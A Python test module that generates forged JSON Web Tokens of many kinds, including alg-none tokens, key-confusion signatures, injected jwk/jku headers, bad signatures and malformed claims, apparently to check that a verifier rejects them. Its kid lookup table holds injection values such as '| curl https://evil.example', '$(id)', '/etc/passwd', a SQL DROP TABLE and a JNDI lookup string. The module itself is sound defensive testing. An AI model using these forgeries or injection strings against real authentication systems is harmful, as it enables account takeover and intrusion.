"""
Every way to make a bad token that we could think of, for every algorithm.

A forger has the issuer's public keys and tokens, and any keys of his own; a careless issuer signs what is not good.
Whoever verifies has the keys of all algorithms, and `RULES`.
"""

import functools
import json
from collections.abc import Iterator, Mapping

from cryptography.hazmat.primitives.serialization import Encoding

from auth.claims import END_OF_TIME_S, MAX_ID_BYTES, TokenRules
from auth.keys import MAX_KID_CHARS, Algorithm, KeySet
from auth.tokens import MAX_TOKEN_CHARS, TokenVerifier
from tests.support.forged_signatures import forged_signatures
from tests.support.signing import Signer, signer, stranger
from tests.support.tokens import NOW_S, base64url, claims

LEEWAY_S = 30
ISSUER, AUDIENCE = "https://id.example", "tapecast"
RULES = TokenRules(
    issuer=ISSUER, audience=AUDIENCE, leeway_s=LEEWAY_S, max_lifetime_s=3600, required_claims=("jti", "realm.name")
)
ELSEWHERE = "https://evil.example/keys"
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

Forgeries = Iterator[tuple[str, str]]
"""What was done, and the token."""


def verifier(*, is_named: bool = False, rules: TokenRules = RULES) -> TokenVerifier:
    """One with the keys of all algorithms; named as by an issuer, by the algorithms' names in lower case, or not."""
    keys = KeySet(tuple(signer(one).named(one.lower() if is_named else None) for one in Algorithm))
    return TokenVerifier(lambda: keys, rules)


def said(**changes: object) -> dict[str, object]:
    """The claims of a token that `RULES` are content with, with changes."""
    return claims(**{"iss": ISSUER, "aud": AUDIENCE, "jti": "t-1", "realm": {"name": "desk"}, **changes})


def payload(**changes: object) -> str:
    """The same as JSON."""
    return json.dumps(said(**changes))


def good(algorithm: str, header: Mapping[str, object] | None = None, **changes: object) -> str:
    """A token that the issuer has signed, but for changes."""
    issuer = signer(algorithm)
    return issuer.sign_text(issuer.header(**(header or {})), payload(**changes))


@functools.cache
def forgeries(algorithm: str) -> dict[str, str]:
    """All of an algorithm, by what was done."""
    return {
        name: token
        for family in (
            *(_of_algorithms, _of_confusion, _of_keys_in_headers, _of_kids, _of_headers),
            *(_of_signatures, _of_spelling, _of_documents, _of_users_and_roles, _of_times, _of_issuers),
        )
        for name, token in family(algorithm)
    }


def _of_algorithms(algorithm: str) -> Forgeries:
    head = signer(algorithm).header
    _, body, signature = good(algorithm).split(".")
    for none in ("none", "None", "NONE", "nOnE", "non\u0435", ""):
        unsigned = f"{base64url(head(alg=none).encode())}.{body}"
        yield f"alg {none!r}, blank signature", f"{unsigned}."
        yield f"alg {none!r}, no signature", unsigned
        yield f"alg {none!r}, another's signature", f"{unsigned}.{signature}"
    others: list[object] = ["HS256", "HS384", "HS512", "RS256", "RS384", "PS256", "ES256", "ES384", "ES256K", "EdDSA"]
    others += ["Ed25519", "none", "dir", "RSA-OAEP", "A128KW", algorithm.swapcase(), f"{algorithm} ", f" {algorithm}"]
    others += [f"{algorithm}\0", "", None, True, 1, [algorithm], {"alg": algorithm}, ...]
    for other in others:
        if other != algorithm:
            yield f"alg {other!r} over our own signature", good(algorithm, {"alg": other})


def _of_confusion(algorithm: str) -> Forgeries:
    if algorithm == "HS256":
        return
    issuer = signer(algorithm)
    jwk = issuer.jwk()
    readings = {
        "PEM": issuer.public(),
        "PEM without its last line feed": issuer.public().rstrip(),
        "PEM with CRLF": issuer.public().replace(b"\n", b"\r\n"),
        "DER": issuer.public(Encoding.DER),
        "base64 of the DER": base64url(issuer.public(Encoding.DER)).encode(),
        "JWK": json.dumps(jwk).encode(),
        "JWK without white space": json.dumps(jwk, separators=(",", ":")).encode(),
        "JWK Set": json.dumps({"keys": [jwk]}).encode(),
        "numbers of the JWK": str(jwk.get("n", jwk.get("x"))).encode(),
        "name": issuer.key.key_id.encode(),
    }
    for name, secret in readings.items():
        forger = Signer(algorithm="HS256", private=secret)
        yield f"the {name} as secret", forger.sign_text(forger.header(), payload())
        for called, ours in (("the key's", issuer.key.key_id), (algorithm.lower(), algorithm.lower())):
            yield f"the {name} as secret, kid {called}", forger.sign_text(forger.header(kid=ours), payload())
        yield f"the {name} as secret, alg {algorithm}", forger.sign_text(issuer.header(), payload())


def _of_keys_in_headers(algorithm: str) -> Forgeries:
    forger = stranger(algorithm)
    jwk = forger.jwk(alg=algorithm, use="sig")
    headers: dict[str, dict[str, object]] = {
        "nothing": {},
        "jwk": {"jwk": jwk},
        "jwk of our kid": {"kid": algorithm.lower(), "jwk": {**jwk, "kid": algorithm.lower()}},
        "jku": {"jku": ELSEWHERE},
        "jku to a file": {"jku": "file:///etc/passwd"},
        "jku with our issuer as user": {"jku": f"{ISSUER}@evil.example/keys", "kid": "k"},
        "x5u": {"x5u": ELSEWHERE},
        "x5c": {"x5c": ["AAAA"], "x5t": "AAAA", "x5t#S256": "AAAA"},
        "kid of the stranger's": {"kid": forger.key.key_id},
        "kid of ours": {"kid": algorithm.lower()},
        "all of it": {"jwk": jwk, "jku": ELSEWHERE, "x5u": ELSEWHERE, "x5c": ["AAAA"]},
    }
    for name, header in headers.items():
        yield f"a stranger's key, header with {name}", forger.sign_text(forger.header(**header), payload())


def _of_kids(algorithm: str) -> Forgeries:
    empty = Signer(algorithm="HS256", private=b"")
    for name, kid in LOOKUPS.items():
        yield (
            f"kid as {name}, a stranger's key",
            stranger(algorithm).sign_text(stranger(algorithm).header(kid=kid), payload()),
        )
        yield f"kid as {name}, no key", empty.sign_text(empty.header(kid=kid), payload())
    for bad in BAD_KIDS:
        yield f"kid {bad!r:.20}", good(algorithm, {"kid": bad})
    for other in Algorithm:
        if other != algorithm:
            yield f"thumbprint of the {other} key", good(algorithm, {"kid": signer(other).key.key_id})


LOOKUPS = {
    "path": "../../../../../../dev/null",
    "absolute path": "/etc/passwd",
    "path with a null": "/dev/null%00.pem",
    "SQL": "x' UNION SELECT '' -- ",
    "SQL command": "k1'; DROP TABLE keys; --",
    "command": "| curl https://evil.example",
    "command of a shell": "$(id)",
    "URL": ELSEWHERE,
    "address within": "http://169.254.169.254/latest/meta-data",
    "template": "{{7*7}}",
    "format": "{0.__class__}%s%n",
    "lookup": "${jndi:ldap://evil.example/x}",
    "wildcard": "*",
    "name with an accent": "k\u00e9",
    "long name": MAX_KID_CHARS * "k",
}
"""What has been a name of a key in attacks on others: a name that is looked up in a dict leads nowhere."""

BAD_KIDS: list[object] = [
    *("", "a\nb", "a\0", "\u202ek", "\ud800", (MAX_KID_CHARS + 1) * "k", 5000 * "k"),
    *(None, True, 0, 1, 1.5, ["es256"], [], {"kid": "es256"}, {}),
]


def _of_headers(algorithm: str) -> Forgeries:
    crits: list[object] = [["exp"], ["b64"], ["alg"], [], "exp", None, {}, [1], ["x"]]
    types: list[object] = [None, 1, [], "", "JWE", "JWT ", "id_token", "application/application/jwt"]
    types += ["logout+jwt", "secevent+jwt", "dpop+jwt"]
    changes: list[dict[str, object]] = [
        *({"crit": crit} for crit in crits),
        {"crit": ["exp"], "exp": NOW_S + 600},
        {"crit": ["b64"], "b64": False},
        {"crit": ["b64"], "b64": True},
        {"b64": False},
        {"b64": True},
        *({"typ": one} for one in types),
    ]
    for change in changes:
        yield f"header {change!r:.40}", good(algorithm, change)
    issuer = signer(algorithm)
    head = issuer.header()
    texts: dict[str, str | bytes] = {
        "no JSON": "{",
        "text": f'"{algorithm}"',
        "a list": f"[{head}]",
        "null": "null",
        "empty": "",
        "in UTF-16": head.encode("utf-16"),
        "behind a BOM": b"\xef\xbb\xbf" + head.encode(),
        "no UTF-8": head.encode()[:-1] + b',"x":"\xff"}',
        "alg twice, ours last": '{"alg":"none",' + head[1:],
        "alg twice, ours first": head[:-1] + ',"alg":"none"}',
        "alg twice, once escaped": head[:-1] + f',"\\u0061lg":"{algorithm}"}}',
        "kid twice": head[:-1] + ',"kid":"x","kid":"x"}',
        "something twice below": head[:-1] + ',"jwk":{"kty":"EC","kty":"oct"}}',
        "NaN": head[:-1] + ',"x":NaN}',
        "deep": 3000 * "[",
    }
    for name, text in texts.items():
        yield f"header: {name}", issuer.sign_text(text, payload())


def _of_signatures(algorithm: str) -> Forgeries:
    head, body, _ = good(algorithm).split(".")
    signature = signer(algorithm).sign(f"{head}.{body}".encode())
    size = len(signature)
    wrong = {
        "of zeros": bytes(size),
        "of ones": b"\xff" * size,
        "of one byte": b"\0",
        "cut": signature[:-1],
        "cut at its half": signature[: size // 2],
        "longer by a zero": signature + b"\0",
        "behind a zero": b"\0" + signature,
        "twice": signature + signature,
        "with a bit changed": bytes([signature[0] ^ 1]) + signature[1:],
        "with its last bit changed": signature[:-1] + bytes([signature[-1] ^ 1]),
        "backwards": signature[::-1],
        "of the claims alone": signer(algorithm).sign(body.encode()),
        "of another token": signer(algorithm).sign(b"other"),
        **forged_signatures(algorithm, f"{head}.{body}".encode(), signature),
    }
    for name, data in wrong.items():
        yield f"signature {name}", f"{head}.{body}.{base64url(data)}"
    text = base64url(json.dumps(said(role="admin")).encode())
    yield "claims of another token", f"{head}.{text}.{base64url(signature)}"
    yield "a stranger's key", stranger(algorithm).sign_text(stranger(algorithm).header(), payload())
    yield "blank signature", f"{head}.{body}."
    yield "no signature", f"{head}.{body}"


def _of_spelling(algorithm: str) -> Forgeries:
    token = good(algorithm)
    head, body, signature = token.split(".")
    forms = {
        "empty": "",
        "dots": "..",
        "only dots": "...",
        "one part": head,
        "four parts": f"{token}.{signature}",
        "five parts, encrypted": f"{token}.x.x",
        "a dot before": f".{token}",
        "a dot behind": f"{token}.",
        "padded": f"{token}=",
        "padded twice": f"{token}==",
        "padded header": f"{head}=.{body}.{signature}",
        "padded claims": f"{head}.{body}=.{signature}",
        "escaped padding": f"{token}%3D",
        "claims cut": f"{head}.{body[:-4]}.{signature}",
        "a character more": f"{token}A",
        "a signature of one character": f"{head}.{body}.A",
        "a header of one character": f"e.{body}.{signature}",
        "four characters more": f"{token}AAAA",
        "standard base64": f"{head}.{body}.{signature[:-2]}+/",
        "quoted": f'"{token}"',
        "with its method": f"Bearer {token}",
        "not ASCII": f"{token}\u00e9",
        "letters of another alphabet": f"{head}.{body}.{signature[:-1]}\u0410",
        "full width": f"{head}.{body}.{signature[:-1]}\uff21",
        "lone surrogate": f"{token}\ud800",
        "null": f"{token}\0",
        "null before": f"\0{token}",
        "comma and another": f"{token},{token}",
    }
    yield from forms.items()
    for space in (" ", "\t", "\n", "\r\n", "\v", "\u00a0", "\u2003", "\ufeff", "\u200b"):
        yield f"{space!r} before", space + token
        yield f"{space!r} behind", token + space
        yield f"{space!r} within", f"{head}.{space}{body}.{signature}"
    for name, place in (("signature", 2), ("claims", 1), ("header", 0)):
        parts = token.split(".")
        if len(parts[place]) % 4:
            parts[place] = parts[place][:-1] + ALPHABET[ALPHABET.index(parts[place][-1]) + 1]
            yield f"other bits behind the {name}", ".".join(parts)


def _of_documents(algorithm: str) -> Forgeries:
    issuer = signer(algorithm)
    text = payload()
    texts: dict[str, str | bytes] = {
        "no JSON": "{",
        "a list": f"[{text}]",
        "null": "null",
        "text": '"alice"',
        "a number": "1",
        "another token": good(algorithm),
        "another token as text": json.dumps(good(algorithm)),
        "no UTF-8": text.encode()[:-1] + b',"x":"\xff"}',
        "in UTF-16": text.encode("utf-16"),
        "behind a BOM": b"\xef\xbb\xbf" + text.encode(),
        "followed by others": text + text,
        "with NaN": text[:-1] + ', "x": NaN}',
        "with a comment": text[:-1] + "/* */}",
        "role twice, the better last": '{"role":"trader",' + payload(role="admin")[1:],
        "role twice, the better first": '{"role":"admin",' + text[1:],
        "role twice, once escaped": text[:-1] + ',"r\\u006fle":"admin"}',
        "sub twice": text[:-1] + ',"sub":"bob"}',
        "exp twice": text[:-1] + f',"exp":{END_OF_TIME_S}}}',
        "something twice below": text[:-1] + ',"other":{"x":1,"x":2}}',
        "deep": 5900 * "[",
    }
    for name, content in texts.items():
        yield f"claims: {name}", issuer.sign_text(issuer.header(), content)
    yield "huge", good(algorithm, other=MAX_TOKEN_CHARS * "x")
    yield "huge header", good(algorithm, {"other": MAX_TOKEN_CHARS * "x"})
    yield "huge, and no token", 2_000_000 * "x"
    yield "huge, and dots", 100_000 * "."


def _of_users_and_roles(algorithm: str) -> Forgeries:
    names = ("gateway", "trusted", "public", "anonymous", "superuser", "Trader", "trader ", "", "trader,admin", "*")
    lists: list[object] = [[], ["risk", "trader"], ["trader", "gateway"], ["trader", 1], [["trader"]], ["superuser"]]
    for role in [*names, *lists, None, 1, True, {"trader": 1}, ...]:
        yield f"role {role!r:.40}", good(algorithm, role=role)
    too_long = ["x" * (MAX_ID_BYTES + 1), "\u00e9" * (MAX_ID_BYTES // 2 + 1)]
    unprintable = ["a\nb", "a\0", "a\x7f", "\u2028", "\u202e", "\ud800", "\r\nadmin"]
    for name in ["", None, 1, 1.5, True, ["alice"], {"sub": "alice"}, *too_long, *unprintable]:
        yield f"sub {name!r:.20}", good(algorithm, sub=name)
        yield f"userId {name!r:.20}", good(algorithm, sub=..., userId=name)
        yield f"jti {name!r:.20}", good(algorithm, jti=name)
    yield "no user", good(algorithm, sub=...)
    yield "sub and userId differ", good(algorithm, userId="bob")
    yield "sub beside bad userId", good(algorithm, userId=None)
    yield "jti missing", good(algorithm, jti=...)
    realms: list[object] = [..., None, {}, {"name": None}, ["name"], "name"]
    for realm in realms:
        yield f"required claim in {realm!r}", good(algorithm, realm=realm)


def _of_times(algorithm: str) -> Forgeries:
    values: list[object] = [str(NOW_S + 600), "", "soon", "2030-01-01T00:00:00Z", None, True, False, [NOW_S + 600], {}]
    values += [-1, -0.5, END_OF_TIME_S + 1, 10**30, 10**400, 1e300, float("nan"), float("inf"), float("-inf")]
    for claim in ("exp", "nbf", "iat"):
        for value in values:
            yield f"{claim} {value!r:.30}", good(algorithm, None, **{claim: value})
        for literal in ("1e999", "-1e999", 5000 * "9", "0x65", "+1", "01", "1.", "1_700_000_600"):
            text = payload(**{claim: ...})[:-1] + f', "{claim}": {literal}}}'
            yield f"{claim} {literal:.12}", signer(algorithm).sign_text(signer(algorithm).header(), text)
    yield "exp missing", good(algorithm, exp=...)
    yield "nbf in the future", good(algorithm, nbf=NOW_S + LEEWAY_S + 1)
    yield "iat in the future", good(algorithm, iat=NOW_S + LEEWAY_S + 1)
    yield "iat in the future by a fraction", good(algorithm, iat=NOW_S + LEEWAY_S + 0.001)
    yield "for too long", good(algorithm, iat=NOW_S, exp=NOW_S + 3601)
    yield "for too long, and iat missing", good(algorithm, iat=..., exp=NOW_S + LEEWAY_S + 3601)
    yield "for ever", good(algorithm, exp=END_OF_TIME_S)
    yield (
        "expired, and a stranger's",
        stranger(algorithm).sign_text(stranger(algorithm).header(), payload(exp=NOW_S - 3600)),
    )
    yield "expired, and role not for tokens", good(algorithm, exp=NOW_S - 3600, role="gateway")
    yield "expired, and for another audience", good(algorithm, exp=NOW_S - 3600, aud="other")


def _of_issuers(algorithm: str) -> Forgeries:
    issuers: list[object] = [..., None, "", 1, [ISSUER], {"iss": ISSUER}, ISSUER.upper(), f"{ISSUER}/", f"{ISSUER} "]
    for issuer in [*issuers, "http://id.example", f"{ISSUER}.evil.example", f"{ISSUER}\0"]:
        yield f"iss {issuer!r}", good(algorithm, iss=issuer)
    audiences: list[object] = [..., None, "", 1, [], [None], ["other"], [[AUDIENCE]], {AUDIENCE: 1}, "Tapecast"]
    for audience in [*audiences, "tapecast-staging", f"{AUDIENCE} ", [AUDIENCE, 1], [AUDIENCE, None], "*", ["*"]]:
        yield f"aud {audience!r}", good(algorithm, aud=audience)
